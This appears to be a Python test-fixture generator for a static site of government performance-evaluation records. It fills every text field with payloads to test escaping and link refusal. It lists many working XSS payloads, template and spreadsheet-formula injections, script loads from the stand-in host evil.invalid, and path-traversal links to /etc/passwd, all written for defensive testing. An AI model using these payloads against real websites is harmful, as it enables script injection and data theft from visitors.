#!/usr/bin/env python3
"""A site made of attacks: valid records whose every free text is an attempt to run a script or to load from elsewhere.

    hostile_records.py --out DIR --schema-of BIN [--payloads 500] [--districts]
    hostile_records.py --out DIR --refused-by BIN

Writes DIR/content: projects whose figures agree, and one record of each kind in which every text field that `BIN schema` knows is an attack
(hostile_fields.py); a text field that it leaves empty ends the run. With --districts the site is one of several districts, else of one.
The second form writes links that must not pass, one a document, and has the program at BIN check them: each must be named. What fires calls trip(), which the browser test (tests/browser/run.mjs --xss) counts; what loads asks
evil.invalid, a host that cannot exist. The figures are all right, so that `check` lets the site through: this is about text.
"""
import argparse
import itertools
import json
import subprocess
import sys
from pathlib import Path

import hostile_fields
from hostile_fields import Form, PROJECT, REGISTERS, schema
from jsonl_to_records import Number, block, flow

# In any text: elements, attributes, addresses, template syntax, encodings, other markup languages.
ATTACKS = [
    "<script>trip('script')</script>", "<SCRIPT SRC=//evil.invalid/a.js></SCRIPT>", "<scr<script>ipt>trip('nested')</scr</script>ipt>",
    "<img src=x onerror=trip('img')>", "<img src=//evil.invalid/p.png>", "<img/src=`x`onerror=trip('tick')>", "<image href=x onerror=trip('image')>",
    "<svg onload=trip('svg')>", "<svg/onload=trip('svg2')>", "<svg><script>trip('svgscript')</script></svg>",
    "<svg><animate onbegin=trip('animate') attributeName=x dur=1s>", "<svg><a xlink:href=javascript:trip('xlink')><text y=9>a</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:parent.trip('fo')></foreignObject></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=trip(1)>#x'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=trip('math')>", "<math href=javascript:trip('mathlink')>a</math>",
    "<iframe src=javascript:parent.trip('frame')></iframe>", "<iframe srcdoc=\"<script>parent.trip('srcdoc')</script>\"></iframe>",
    "<a href=javascript:trip('a')>a</a>", "<a href='java\tscript:trip(1)'>tab</a>", "<a href=&#106;avascript:trip('entity')>a</a>",
    "<a href='data:text/html,<script>opener.trip(1)</script>'>data</a>", "<a href=vbscript:trip('vb')>a</a>", "<a href=' javascript:trip(1)'>space</a>",
    "<body onload=trip('body')>", "<input autofocus onfocus=trip('focus')>", "<select autofocus onfocus=trip('select')>",
    "<details open ontoggle=trip('toggle')>", "<video><source onerror=trip('source')></video>", "<audio src=x onerror=trip('audio')>",
    "<object data=javascript:trip('object')></object>", "<embed src=javascript:trip('embed')>", "<marquee onstart=trip('marquee')>",
    "<form action=javascript:trip('form')><button>a</button></form>", "<button formaction=javascript:trip('fa')>a</button>",
    "<meta http-equiv=refresh content='0;url=javascript:trip(1)'>", "<base href=//evil.invalid/>", "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css';</style>", "<div style=\"background:url(//evil.invalid/b)\">a</div>", "<p style=width:expression(trip(1))>a",
    "<template><script>trip('template')</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=trip('noscript')>\">",
    "<!--><script>trip('comment')</script>-->", "<![CDATA[<script>trip('cdata')</script>]]>", "<?xml-stylesheet href=javascript:trip(1)?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'http://evil.invalid/'>]>&y;", "<script xmlns='http://www.w3.org/1999/xhtml'>trip('xhtml')</script>",
    "\" onmouseover=\"trip('dq')", "' onmouseover='trip(1)", "\" autofocus onfocus=\"trip('dqf')", "` onload=`trip(1)`",
    "&lt;script&gt;trip('twice')&lt;/script&gt;", "&#60;script&#62;trip('numeric')&#60;/script&#62;", "&lt;img src=x onerror=trip(1)&gt;",
    "\\u003cscript\\u003etrip('js')\\u003c/script\\u003e", "%3Cscript%3Etrip('url')%3C/script%3E", "＜script＞trip('wide')＜/script＞",
    "{{ 7 * 7 }}", "{{ __tera_context }}", "{% include \"base.html\" %}", "{% raw %}<script>trip('raw')</script>{% endraw %}", "{# comment #}", "${trip('dollar')}", "<%= trip %>",
    "javascript:trip('bare')", "//evil.invalid/bare", "=HYPERLINK(\"http://evil.invalid/\")", "@SUM(1+1)", "+trip()", "-trip()",
]
# What might first have to be closed.
BEFORE = ["", "\">", "'>", "</td></tr></table>", "</title>", "</script>", "-->", "]]>", "</textarea>", "</style>", "甲&", "甲 "]
# In Markdown alone: what may stand there, as harmless text.
MARKDOWN = [
    "[a](http://a.invalid \"\\\" onmouseover=\\\"trip(1)\")", "<http://a.invalid/\"onmouseover=trip('auto2')>", "[a](https://a.invalid/'onmouseover='trip(1))",
    "[^f]\n\n[^f]: <script>trip('foot')</script>", "[^<script>trip('label')</script>]", "```\"><script>trip('fence')</script>\ncode\n```",
    "    <script>trip('code')</script>", "`<script>trip('span')</script>`", "| <script>trip('cell')</script> | b |\n| ---: | :---: |\n| <img src=x onerror=trip('cell2')> | d |",
    "### <script>trip('heading')</script> {#x\" onmouseover=\"trip(1)}", "- [ ] <img src=x onerror=trip('task')>", "<a href=\"javascript:trip('inline')\">a</a>",
    "<div>\n\n<img src=x onerror=trip('html')>\n\n</div>", "&lt;script&gt;trip('md10')&lt;/script&gt;", "~~<svg onload=trip('strike')>~~", "> <script>trip('quote')</script>",
    "[<img src=x onerror=trip('linktext')>](https://a.invalid/)", "1. <iframe src=javascript:parent.trip('item')>", "<!-- --!><script>trip('bang')</script>",
]
# In Markdown, and refused: `check` must name each.
REFUSED = [
    "[a](javascript:trip('md'))", "[a](<javascript:trip('md2')>)", "[a](JaVaScRiPt:trip('md3'))", "[a](&#106;avascript:trip('md4'))",
    "[a](data:text/html;base64,PHNjcmlwdD5vcGVuZXIudHJpcCgxKTwvc2NyaXB0Pg==)", "![a](javascript:trip('md5'))", "![a](//evil.invalid/m.png)", "[a](//evil.invalid/)",
    "![a](https://evil.invalid/m.png)", "![a](x\"onerror=\"trip('md6'))", "![\" onerror=\"trip('md7')](x)", "<javascript:trip('auto')>", "[a][r]\n\n[r]: javascript:trip('ref')",
    "[a](vbscript:trip('md8'))", "[a](\\javascript:trip('md9'))", "![a](data:image/svg+xml,<svg/onload=trip(1)>)", "<div>\n\n[a](javascript:trip('html'))\n\n</div>",
    "[a](../../../etc/passwd)", "[a](/etc/passwd)", "![a](assets/../site.yaml)", "[a](file:///etc/passwd)", "[a](jav&#x09;ascript:trip('tab'))", "[a](&#1;javascript:trip('control'))",
]
CHAPTERS = ["一、基本情况", "二、绩效评价工作开展情况", "三、综合评价情况及评价结论", "四、绩效评价指标分析",
            "五、主要经验及做法、存在的问题及原因分析", "六、有关建议"]


def payloads():
    """Endless, the plain ones first."""
    for before in itertools.cycle(BEFORE):
        for attack in ATTACKS:
            yield before + attack


class Source:
    """Hands out attacks for texts, and counts them."""

    def __init__(self):
        self.texts, self.markdown, self.given, self.handed = payloads(), itertools.cycle(MARKDOWN), 0, set()

    def text(self):
        self.given += 1
        attack = next(self.texts)
        self.handed.add(attack)
        return attack

    def body(self):
        out = []
        for chapter in CHAPTERS:
            out += [f"## {chapter}", "", next(self.markdown), "", self.text(), ""]
            self.given += 1
        return "\n".join(out)


def project(source, year):
    """One project's records of one year: file name -> text. Sums and weights agree; every text is an attack."""
    t = source.text
    name = t()
    rows = [("产出", "数量", 40), ("效益", "社会效益", 40), ("满意度", "服务对象满意度", 10)]
    names = [t() for _ in rows]
    published = [{"date": Number(f"{year}-02-01"), "venue": "site", "extent": "full"}]
    later = [{"date": Number(f"{year + 1}-05-01"), "venue": "site", "extent": "full"}]
    remark = {"by": t(), "date": Number(f"{year + 1}-03-01")}
    target = {
        "name": name, "book": "general", "framework": 2013, "funds": {"annual": {"total": 100, "fiscal": 100, "other": 0}},
        "goals": {"annual": t(), "medium_term": t()},
        "indicators": [{"level1": a, "level2": b, "name": n, "target": "≥95%", "weight": w, "standard": t()} for (a, b, w), n in zip(rows, names)],
        "rounds": [{"submitted": Number(f"{year - 1}-10-08"), "reviewer": t(), "verdict": "accepted", "date": Number(f"{year - 1}-10-15")}],
        "approved": {"date": Number(f"{year}-01-20"), "number": t()},
        "notes": [{"at": "goals.annual", "text": t()} | remark], "explanations": [{"at": "funds.annual.total", "text": t()} | remark],
        "attachments": [{"title": t(), "missing": True}], "published": published,
    }
    self_evaluation = {
        "name": name, "book": "general", "framework": 2013,
        "funds": {"total": {"initial": 100, "adjusted": 100, "executed": 100, "weight": 10, "rate": "100%", "score": 10},
                  "fiscal": {"initial": 100, "adjusted": 100, "executed": 100}},
        "goals": {"expected": t(), "actual": t()},
        "indicators": [{"level1": a, "level2": b, "name": n, "target": "≥95%", "actual": "96%", "weight": w, "score": w - 1, "deviation": t()}
                       for (a, b, w), n in zip(rows, names)],
        "total": 97, "grade": "优", "notes": [{"at": "total", "text": t()} | remark],
        "corrections": [{"date": Number(f"{year + 1}-04-10"), "at": "total", "old": 98, "new": 97, "reason": t(), "document": t()}],
        "published": later,
    }
    evaluation = {
        "name": name, "book": "general", "amount": 100, "led_by": "finance", "subject": "project",
        "evaluator": {"name": t(), "kind": "third-party", "chosen_by": t()}, "commissioned_by": t(), "evaluated_in": year + 1,
        "score": 90, "grade": "优",
        "indicators": [{"level1": a, "level2": b, "name": t(), "weight": w, "score": w - s, "criteria": t(), "deducted": t()}
                       for (a, b, w), s in zip([("决策", "项目立项", 20), ("过程", "资金管理", 20), ("产出", "产出数量", 30), ("效益", "项目效益", 30)], (2, 2, 3, 3))],
        "aspects": {"economy": t(), "efficiency": t(), "effectiveness": t()}, "issued": Number(f"{year + 1}-08-01"), "published":
        [{"date": Number(f"{year + 1}-09-01"), "venue": "site", "extent": "full"}],
    }
    follow_up = {
        "name": name,
        "problems": [{"id": "p1", "text": t(), "class": "other", "found_in": "evaluation-finance", "fed_back": Number(f"{year + 1}-09-01"),
                      "due": Number(f"{year + 1}-12-31"), "measures": {"date": Number(f"{year + 1}-10-01"), "text": t()}}],
        "inquiries": [{"asked_by": t(), "asked": Number(f"{year + 1}-10-15"), "question": t(), "answered": Number(f"{year + 1}-10-20"), "answer": t()}],
    }
    blocks = ("funds", "goals", "indicators", "problems", "inquiries", "notes")
    return {"target.yaml": block(target, blocks), "self-evaluation.yaml": block(self_evaluation, blocks),
            "evaluation-finance.md": f"---\n{block(evaluation, blocks)}---\n\n{source.body()}", "follow-up.yaml": block(follow_up, blocks)}


def bureau(source):
    """What is not a project's: document, policy, allocation, plan, summary."""
    t = source.text
    issued = Number("2023-01-12")
    return {
        "documents/2022/zhidu.md": "---\n" + block({"title": t(), "number": t(), "issuer": t(), "issued": Number("2022-06-10"), "openness": "主动公开",
                                                    "copied_to": [t()], "attachments": [{"title": t(), "missing": True}]}) + "---\n\n" + source.body(),
        "policies/fuchi/policy.yaml": block({"name": t(), "number": t(), "term": [Number("2020-01-01"), Number("2024-12-31")],
                                             "money": [{"year": 2022, "arranged": 120, "executed": 110}]}),
        "2022/allocations/fenpei.yaml": block({"name": t(), "amount": 100, "criteria": [{"name": t(), "weight": 60}, {"name": t(), "weight": 40}],
                                               "candidates": [{"name": t(), "applied": 100, "scores": [50, 30], "chosen": True, "arranged": 100},
                                                              {"name": t(), "applied": 90, "scores": [40, 30], "chosen": False, "why": t()}]}),
        "2022/plan.yaml": block({"tasks": [{"id": "a", "title": t(), "owner": t(), "due": Number("2022-09-30")}]}),
        "2022/summary.md": "---\n" + block({"issued": issued, "declared": {"targets": [{"scope": t(), "of_year": 2022, "projects": 2}]}}) + "---\n\n" + source.body(),
    }


# What the records with every field start from: what is no text, and what must agree with something else.
TERM = [Number("2020-01-01"), Number("2024-12-31")]
BASES = {
    "site": {"demo": False, "as_of": Number("2025-12-31"), "venue": "government", "profile": "national",
             "duties": [{"id": "d1", "kind": "target", "year": 2020, "window": TERM, "venues": {"need": "all", "of": ["government", "agency"]}}],
             "submissions": [{"id": "s1", "year": 2020, "due": Number("2020-11-30"), "done": Number("2020-12-02")}],
             "volumes": [{"id": "v1", "select": {"years": [2020], "kinds": ["target"]}}],
             "profiles": [{"name": "own", "base": "national"}]},
    "agencies": [{"id": f"u{n}", "kind": "department", "order": n} for n in (1, 2, 3)],
    "projects": [{"id": "filled", "agency": "u1", "term": TERM}],
    "evaluators": [{"id": "e1", "kind": "third-party"}],
    "indicators": [{"id": "i1"}],
}


def as_json(record):
    """A record whose values are written as JSON, which is YAML too and quotes every key."""
    return "".join(f"{key}: {json.dumps(value, ensure_ascii=False)}\n" for key, value in record.items())


# Kinds whose file is not named after them, and those that are no project's.
FILES = {"monitoring": "monitoring-07", "evaluation": "evaluation-finance"}
PLACES = {"policy": "policies/filled/policy.yaml", "allocation": "2020/allocations/filled.yaml", "document": "documents/2020/filled.md",
          "plan": "2020/plan.yaml", "summary": "2020/summary.md"}
RECORDS = {"monitoring": {"period": {"from": "2020-01", "to": "2020-07"}}}


def every_field(source, binary, districts):
    """One file of each kind and register with an attack in every text field; and the paths that were filled."""
    files, given = {}, {}

    def fill(name, base, skip=()):
        value = Form(schema(binary, name)).fill(source.text, base, skip=skip)
        given.setdefault(name, set()).update(hostile_fields.filled(value, source.handed))
        return value

    site = BASES["site"]
    portal = {"contact": {}}
    if districts:
        own = {key: site[key] for key in ("duties", "submissions", "profile")}
        site = {key: value for key, value in site.items() if key not in own or key == "profile"}
        about = fill("site", site | {"divisions": [{"id": "qu", "as_of": site["as_of"], "portal": portal, **own}]}, ("division", "duties", "submissions"))
    else:
        about = fill("site", site | {"division": {}, "portal": portal}, ("divisions",))
    files["site.yaml"] = as_json(about)
    for name in REGISTERS[1:]:
        value = fill(name, BASES.get(name)) if name != "calendar" else None
        if value is not None:
            files[f"{name}.yaml"] = json.dumps(value, ensure_ascii=False)
    for kind in hostile_fields.KINDS:
        # The second is known only from another document, and names its units as mappings.
        for number, base in enumerate(({}, {"basis": "mentioned", "department": {}, "implementer": {}})):
            if number and kind not in PROJECT:
                continue
            text = as_json(fill(kind, base | RECORDS.get(kind, {})))
            place = PLACES.get(kind, f"2020/u1/filled{number or ''}/{FILES.get(kind, kind)}.yaml")
            files[place] = f"---\n{text}---\n\n{source.body()}" if place.endswith(".md") else text
    return files, given


def refused(out, binary):
    """One document for each link that must not pass; returns those that passed."""
    files = {"site.yaml": block({"name": "虚构示例", "bureau": "示例区财政局", "demo": True, "as_of": Number("2025-12-31"), "division": {"code": "999901", "name": "示例区"},
                                 "venue": "government", "profile": "national"}), "agencies.yaml": "- {id: u1, name: 示例局, kind: department}\n"}
    for n, attack in enumerate(REFUSED):
        files[f"documents/2022/d{n}.md"] = f"---\n{block({'title': '虚构示例', 'issuer': '示例区财政局', 'issued': Number('2022-06-10')})}---\n\n{attack}\n"
    write(out, files)
    done = subprocess.run([binary, "--root", out, "check", "--format", "json"], capture_output=True, text=True)
    named = {f["file"] for f in json.loads(done.stdout)["findings"] if f["severity"] == "error"}
    return [attack for n, attack in enumerate(REFUSED) if f"content/documents/2022/d{n}.md" not in named]


def write(out, files):
    for path, text in files.items():
        full = out / "content" / path
        full.parent.mkdir(parents=True, exist_ok=True)
        full.write_text(text, encoding="utf-8")


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--out", type=Path, required=True, metavar="DIR")
    ap.add_argument("--payloads", type=int, default=500)
    ap.add_argument("--schema-of", metavar="BIN", help="the program that knows all fields")
    ap.add_argument("--districts", action="store_true", help="a site of several districts")
    ap.add_argument("--refused-by", metavar="BIN")
    args = ap.parse_args()
    if args.refused_by:
        passed = refused(args.out, args.refused_by)
        for attack in passed:
            print(f"passed, but must not: {attack}")
        print(f"{len(REFUSED) - len(passed)} of {len(REFUSED)} unsafe links refused")
        sys.exit(bool(passed))
    if not args.schema_of:
        ap.error("--schema-of or --refused-by")
    source = Source()
    filled, given = every_field(source, args.schema_of, args.districts)
    left = hostile_fields.lacking(args.schema_of, given)
    left = [path for path in left if not path.startswith(("site: division.", "site: duties.", "site: submissions.") if args.districts else "site: divisions.")]
    if left:
        sys.exit("no attack stands in: " + ", ".join(left))
    files = bureau(source)
    number, before = 0, source.given
    while source.given - before < args.payloads:
        for name, text in project(source, 2021 + number % 3).items():
            files[f"{2021 + number % 3}/u{1 + number % 3}/p{number}/{name}"] = text
        number += 1
    files |= filled
    if args.districts:
        files = {path if path == "site.yaml" else f"qu/{path}": text for path, text in files.items()}
    write(args.out, files)
    print(f"{source.given} attacks in {len(files)} files below {args.out / 'content'}")


if __name__ == "__main__":
    main()
